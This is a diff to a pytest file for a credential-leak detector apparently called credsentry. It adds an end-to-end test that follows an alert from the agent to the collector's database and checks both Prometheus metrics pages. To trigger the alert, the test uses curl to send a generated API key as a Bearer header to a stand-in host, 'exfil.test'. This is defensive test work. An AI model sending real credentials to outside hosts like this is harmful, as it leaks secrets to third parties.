@@ -2,6 +2,7 @@
 traffic flows through the test cgroup: the counters move, the alert shows, and promtool accepts
 the page. Under CI=true a missing promtool fails the test instead of skipping it."""
 
+import os
 import re
 import shutil
 import subprocess
@@ -9,19 +10,22 @@ import threading
 import time
 import urllib.request
 
-import pytest
-
 from kharness import env
+from test_collector import Collector, collector_path
 
 SAMPLE = re.compile(r'^([a-zA-Z_:][a-zA-Z0-9_:]*)(\{[^}]*\})? (\S+)$')
 ALERT_TIMEOUT = 5.0
 PUBLISH_TIMEOUT = 3.0  # the page is rebuilt every second
 
 
-def _port_from_log(agent) -> int:
-    m = re.search(r"metrics on http://127\.0\.0\.1:(\d+)/metrics", agent.log_text())
-    assert m, f"agent did not say where metrics are served:\n{agent.diagnostics()}"
+def _metrics_port(log_text: str) -> int:
+    m = re.search(r"metrics on http://127\.0\.0\.1:(\d+)/metrics", log_text)
+    assert m, f"no 'metrics on' line in the log:\n{log_text[-3000:]}"
     return int(m.group(1))
+
+
+def _port_from_log(agent) -> int:
+    return _metrics_port(agent.registry.redact(agent.log_text()))
 
 
 def _scrape(port: int) -> tuple[str, str]:
@@ -140,3 +144,71 @@ def test_metrics_listen_refuses_a_non_loopback_address_and_names_the_flag(agent_
 
 def test_metrics_off_by_default(agent):
     assert "metrics on http" not in agent.log_text()
+
+
+def _collector_with_metrics(agent_binary, scratch) -> Collector:
+    """test_collector's collector (PKI, SQLite, queries), started with --metrics-listen."""
+    binary = collector_path(agent_binary)
+    env.require(binary.is_file() and os.access(binary, os.X_OK),
+                f"collector binary not built: {binary} (build it or set CREDSENTRY_COLLECTOR)")
+    workdir = scratch / "collector"
+    workdir.mkdir()
+    c = Collector(binary, workdir)
+    with open(c.log, "ab") as log:
+        c.proc = subprocess.Popen(
+            [str(binary), "serve", "--listen", "127.0.0.1:0", "--db", str(c.db),
+             "--ca", str(c.pki / "ca.pem"), "--cert", str(c.pki / "server.pem"),
+             "--key", str(c.pki / "server.key"), "--port-file", str(c.port_file),
+             "--metrics-listen", "127.0.0.1:0"],
+            stdin=subprocess.DEVNULL, stdout=log, stderr=subprocess.STDOUT)
+    deadline = time.monotonic() + 10
+    while not c.port_file.exists():
+        assert c.proc.poll() is None and time.monotonic() < deadline, c.log.read_text()[-2000:]
+        time.sleep(0.02)
+    c.port = int(c.port_file.read_text())
+    return c
+
+
+def test_agent_and_collector_metrics_follow_an_alert_to_the_database(
+        agent_binary, start_agent, clients, https_server, curl, registry, scratch):
+    collector = _collector_with_metrics(agent_binary, scratch)
+    try:
+        collector_port = _metrics_port(collector.log.read_text())
+        config = scratch / "agent.yaml"
+        config.write_text(collector.agent_config(scratch / "spool") +
+                          "metrics_listen: 127.0.0.1:0\n")
+        agent = start_agent(extra_args=["--config", str(config)])
+        agent_port = _port_from_log(agent)
+
+        key = registry.new("openai")
+        header = scratch / "headers"
+        header.write_text(f"Authorization: Bearer {key}\n")
+        clients.run(curl.https(https_server, "exfil.test", "/v1/chat/completions") +
+                    ["-H", f"@{header}", "--data-binary", '{"model":"x"}'])
+        assert agent.wait_for_alerts(timeout=ALERT_TIMEOUT), agent.diagnostics()
+
+        sent = 'credsentry_agent_sink_sent_total{sink="collector"}'
+        agent_side = _wait_for(agent_port, lambda s: s.get(sent, 0) >= 1, PUBLISH_TIMEOUT + 5)
+        assert agent_side.get(sent, 0) >= 1, agent.diagnostics()
+        assert agent_side['credsentry_agent_sink_spool_pending_alerts{sink="collector"}'] == 0
+        assert 'credsentry_agent_sink_spool_bytes{sink="collector"}' in agent_side
+        assert agent_side['credsentry_agent_sink_send_failures_total{sink="collector"}'] == 0
+
+        stored = 'credsentry_collector_alerts_total{outcome="stored"}'
+        collector_side = _wait_for(collector_port, lambda s: s.get(stored, 0) >= 1, 5)
+        assert collector_side[stored] >= 1, collector.log.read_text()[-2000:]
+        assert collector_side["credsentry_collector_alerts_received_total"] >= 1
+        assert collector_side["credsentry_collector_commit_duration_seconds_count"] >= 1
+        assert collector_side["credsentry_collector_commit_queue_alerts"] == 0
+
+        for name, port in (("agent", agent_port), ("collector", collector_port)):
+            page = _scrape(port)[1]
+            registry.watch_text(f"{name} metrics page", page)
+            check = _promtool(page)
+            print(f"\npromtool check metrics ({name}): rc={check.returncode} "
+                  f"{check.stdout}{check.stderr}")
+            assert check.returncode == 0, f"{name}: {check.stdout}{check.stderr}"
+    finally:
+        collector.stop()
+        for f in collector.files():
+            registry.watch_file(f)
